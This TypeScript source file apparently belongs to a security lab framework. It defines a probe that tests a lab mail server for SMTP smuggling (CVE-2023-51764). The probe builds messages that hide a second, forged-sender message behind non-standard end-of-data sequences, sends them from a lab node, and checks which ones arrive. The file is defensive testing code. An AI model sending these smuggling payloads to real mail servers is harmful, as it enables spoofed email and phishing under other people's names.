import { z } from 'zod';

import { LabError } from '../model/errors.ts';
import { NodeName } from '../model/ids.ts';
import type { Attempt, Evidence, Observation } from '../model/observation.ts';
import type { Family, Plan } from '../model/plan.ts';
import { addressesOf } from './addresses-of.ts';
import { logEvidence, mailboxEvidence } from './mail/evidence.ts';
import { composeMessage } from './mail/letter.ts';
import { type MailTraces, settleMail, tieRemoval } from './mail/trace.ts';
import { defineProbe, type ProbeContext } from './probe.ts';

const Params = z.strictObject({
  server: NodeName.describe('The mail server that takes the messages, and keeps the mailboxes'),
  from: NodeName.describe('The node that hands them over, as a provider would whose user wrote them'),
  sender: z.email().describe('Who wrote the message'),
  recipient: z.email().describe('A mailbox at the server'),
  forgedSender: z.email().describe('In whose name a second message is hidden in the first'),
  forgedRecipient: z.email().describe('The mailbox at the server that the second message is for'),
});
type Params = z.infer<typeof Params>;

/** What a server that is not strict takes for `<CR><LF>.<CR><LF>`, the end of a message (RFC 5321, section 4.1.1.4). */
const falseEnds = { '<LF>.<LF>': '\n.\n', '<LF>.<CR><LF>': '\n.\r\n', '<CR><LF>.<LF>': '\r\n.\n' } as const;

export interface Smuggle {
  readonly label: string;
  readonly role: Attempt['role'];
  readonly family: Family;
  readonly host: string;
  readonly helo: string;
  /** Of the message, and of the one that is hidden in it. */
  readonly token: string;
  readonly hidden?: string;
  readonly data: string;
}

const Told = z.strictObject({ accepted: z.boolean(), transcript: z.string() });
type Told = z.infer<typeof Told>;

/** Hides a second message behind a false end of the first (SMTP smuggling). */
export const smuggleMail = defineProbe({
  name: 'smuggle-mail',
  summary:
    'Hands over a message with a second one behind a false end of it (SMTP smuggling, CVE-2023-51764), and looks whether the second arrives.',
  params: Params,
  nodes: ({ server, from }) => [server, from],
  observe,
});

async function observe(params: Params, context: ProbeContext): Promise<Observation> {
  const { network, plan, nonce, signal } = context;
  const { server, from, sender, recipient } = params;
  const smuggles = planSmuggles(params, plan, nonce);
  const release = await tieRemoval(network, [server], nonce);
  try {
    const input = smuggles.map(({ host, helo, data }) => ({ host, helo, sender, recipient, data }));
    const { exitCode, stdout, stderr } = await network
      .node(from)
      .exec(['/usr/lib/breakwater/attacks/smuggle-mail'], { input: JSON.stringify(input), signal });
    if (exitCode !== 0)
      throw new LabError('command-failed', `smuggle-mail on ${from}: ${stderr.trim() || `exit code ${exitCode}`}`);
    const told = z.array(Told).length(smuggles.length).parse(JSON.parse(stdout));
    const traces = await settleMail(network, [server], nonce, {
      complete: (now) =>
        smuggles.every((it, index) => told[index]?.accepted !== true || arrived(now, server, it.token)),
      timeoutMs: 8000,
      signal,
    });
    return {
      attempts: smuggles.map((it, index) => attemptOf(it, told[index] as Told, traces, params)),
      evidence: [
        await transcripts(smuggles, told, params, context),
        await mailboxEvidence(server, traces, context),
        await logEvidence(server, traces, context),
      ],
    };
  } finally {
    await release();
  }
}

/** Each false end over each family, and an ordinary message as canary. */
export function planSmuggles(params: Params, plan: Plan, nonce: string): Smuggle[] {
  const { server, from, sender, recipient, forgedSender, forgedRecipient } = params;
  const helo = plan.nodes[from]?.names[0] ?? `${from}.invalid`;
  return addressesOf(plan, server).flatMap(({ family, address }) => {
    const common = { family, host: address, helo };
    const tries = Object.entries(falseEnds).map(([name, end], index) => {
      const token = `${nonce}-${family}o${index}`;
      const hidden = `${nonce}-${family}h${index}`;
      const commands = [`MAIL FROM:<${forgedSender}>`, `RCPT TO:<${forgedRecipient}>`, 'DATA', ''].join('\r\n');
      const second = composeMessage({ token: hidden, sender: forgedSender, recipient: forgedRecipient });
      const data = `${composeMessage({ token, sender, recipient })}hello${end}${commands}${second}.\r\n`;
      return { ...common, label: `a second message behind ${name}`, role: 'try' as const, token, hidden, data };
    });
    const token = `${nonce}-${family}c`;
    const data = `${composeMessage({ token, sender, recipient })}.\r\n`;
    return [...tries, { ...common, label: 'an ordinary message', role: 'canary' as const, token, data }];
  });
}

/** A message of its own: the hidden text also lies in the message that it was hidden in, where it harms nobody. */
function arrived(traces: MailTraces, server: string, token: string, not?: string): boolean {
  const trace = traces.get(server);
  const word = wordOf(token);
  return [...(trace?.delivered ?? []), ...(trace?.queued ?? [])].some(
    ({ tokens }) => tokens.includes(word) && (not === undefined || !tokens.includes(wordOf(not))),
  );
}

function wordOf(token: string): string {
  return token.slice(token.lastIndexOf('-') + 1);
}

function attemptOf(
  { label, role, family, host, token, hidden }: Smuggle,
  { accepted, transcript }: Told,
  traces: MailTraces,
  { server, from, forgedSender }: Params,
): Attempt {
  const succeeded = arrived(traces, server, hidden ?? token, hidden === undefined ? undefined : token);
  const first = accepted ? 'the message was taken' : `the message was refused: ${transcript.split('\n').at(-1) ?? ''}`;
  return {
    label,
    role,
    family,
    from,
    to: server,
    // A refusal is an answer, too; a server that said nothing has refused nothing.
    sent: transcript.includes('S: '),
    succeeded,
    seen:
      hidden === undefined
        ? `${first}${succeeded ? ', and arrived' : ''}`
        : `${first}${succeeded ? `, and a second one from ${forgedSender} with it` : ', and nothing with it'}`,
    repeat: `breakwater exec ${from} -- ncat ${host} 25   # EHLO, MAIL, RCPT, DATA, then the lines of the transcript`,
  };
}

async function transcripts(
  smuggles: readonly Smuggle[],
  told: readonly Told[],
  { from, server }: Params,
  { keep }: ProbeContext,
): Promise<Evidence> {
  const text = smuggles
    .map((it, index) => `# ${it.label}, to ${it.host}\n${told[index]?.transcript ?? ''}\n`)
    .join('\n');
  return {
    kind: 'transcript',
    title: `What ${from} and ${server} said, byte by byte`,
    file: await keep('smuggled-mail.txt', text),
    command: `breakwater exec ${from} -- ncat ${smuggles[0]?.host ?? server} 25`,
    excerpt: text.split('\n').slice(0, 40).join('\n'),
  };
}
